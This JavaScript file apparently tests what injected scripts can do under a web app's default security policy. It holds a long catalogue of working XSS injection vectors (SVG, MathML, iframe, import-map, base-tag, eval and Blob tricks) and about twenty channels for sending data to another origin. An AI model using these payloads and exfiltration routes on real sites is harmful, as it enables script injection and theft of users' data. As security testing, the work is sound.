// What an injection can do under the policy that an app has when it says nothing: scripts by every element and URL that
// can carry one, and a way out for what they have read.

globalThis.ran = [];
async function runs(insert) {
  const before = ran.length;
  try {
    await insert();
  } catch {
    // refused at once
  }
  await within(700, new Promise(() => {}));
  return ran.length > before ? "a script ran" : "refused";
}
const markup = (text) => runs(() => document.body.append(document.createRange().createContextualFragment(text)));
const RUN = "(parent.ran ?? top.ran).push(1)";
const MARKUP = {
  inline: `<script>${RUN}</script>`, handler: `<img src=x onerror="${RUN}">`, svgHandler: `<svg onload="${RUN}"></svg>`,
  svgScript: `<svg><script>${RUN}</script></svg>`, svgLink: `<svg><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  svgUse: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
  svgAnimate: `<svg><a><animate attributeName=href to="javascript:${RUN}" dur=1ms fill=freeze /></a></svg>`,
  svgForeign: `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  math: `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`, mathLink: `<math href="javascript:${RUN}">x</math>`,
  srcdoc: `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, frameJavascript: `<iframe src="javascript:${RUN}"></iframe>`,
  frameData: `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`, object: `<object data="javascript:${RUN}"></object>`,
  embed: `<embed src="javascript:${RUN}">`, details: `<details open ontoggle="${RUN}">x</details>`, style: `<style onload="${RUN}"></style>`,
  dataScript: `<script src="data:text/javascript,${RUN}"></script>`, module: `<script type=module>${RUN}</script>`,
  importMap: `<script type=importmap>{"imports": {"/report.js": "data:text/javascript,${RUN}"}}</script><script type=module src=/report.js></script>`,
  template: `<template shadowrootmode=open><img src=x onerror="${RUN}"></template>`, meta: `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  nonce: `<script nonce="guess">${RUN}</script>`, base: `<base href="data:text/javascript,${RUN}//"><script src="x.js"></script>`,
};
const CODE = {
  eval: () => (0, eval)("ran.push(1)"), function: () => new Function("ran.push(1)")(), timer: () => setTimeout("ran.push(1)", 0),
  javascript: () => (location.href = "javascript:ran.push(1)"), blobScript: () => script(URL.createObjectURL(new Blob(["ran.push(1)"]))),
  elsewhere: () => script(`${ELSEWHERE}/script.js`), import: () => import(`${ELSEWHERE}/script.js`), blobImport: () => import(URL.createObjectURL(new Blob(["ran.push(1)"], { type: "text/javascript" }))),
  worker: () => (new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => ran.push(1)),
  attribute: () => { document.body.setAttribute("onclick", "ran.push(1)"); document.body.click(); },
  written: () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='ran.push(1)'>"),
  old: () => { const text = document.createElement("script"); text.text = "ran.push(1)"; document.body.append(text); },
};
function script(src) {
  document.body.append(node("script", { src }));
}
attacks.markup = async () => summary(Object.fromEntries(await Promise.all(Object.entries(MARKUP).map(async ([name, text]) => [name, await within(1500, markup(text))]))), "refused");
attacks.code = async () => {
  const codes = {};
  for (const [name, insert] of Object.entries(CODE)) codes[name] = await runs(insert);
  return summary(codes, "refused");
};

// Whatever reaches another origin: its server has heard of it.
const WAYS = {
  fetch: (url) => fetch(url, { mode: "no-cors" }), xhr: (url) => { const r = new XMLHttpRequest(); r.open("GET", url); r.send(); },
  image: (url) => (new Image().src = url), style: (url) => document.head.append(node("link", { rel: "stylesheet", href: url })),
  css: (url) => { const style = node("style"); style.textContent = `@import url(${url}); body { background: url(${url}) }`; document.head.append(style); },
  script: (url) => document.body.append(node("script", { src: url })), frame: (url) => document.body.append(node("iframe", { src: url })),
  object: (url) => document.body.append(node("object", { data: url })), video: (url) => document.body.append(node("video", { src: url })),
  font: (url) => new FontFace("x", `url(${url})`).load(), beacon: (url) => navigator.sendBeacon(url, "x"), ping: (url) => { const a = node("a", { href: "#x", ping: url }); document.body.append(a); a.click(); },
  socket: (url) => new WebSocket(url.replace("http", "ws")), events: (url) => new EventSource(url), worker: (url) => new Worker(url),
  prefetch: (url) => document.head.append(node("link", { rel: "prefetch", href: url })), preload: (url) => document.head.append(node("link", { rel: "preload", as: "image", href: url })),
  manifest: (url) => document.head.append(node("link", { rel: "manifest", href: url })), icon: (url) => document.head.append(node("link", { rel: "icon", href: url })),
  form: (url) => { const frame = node("iframe", { name: "out" }), form = node("form", { action: url, target: "out" }); document.body.append(frame, form); form.submit(); },
};
attacks.exfiltrate = async () => {
  for (const [name, way] of Object.entries(WAYS)) await (async () => way(`${ELSEWHERE}/told-${name}`))().catch(() => {});
  await within(2000, new Promise(() => {}));
  return "sent";
};
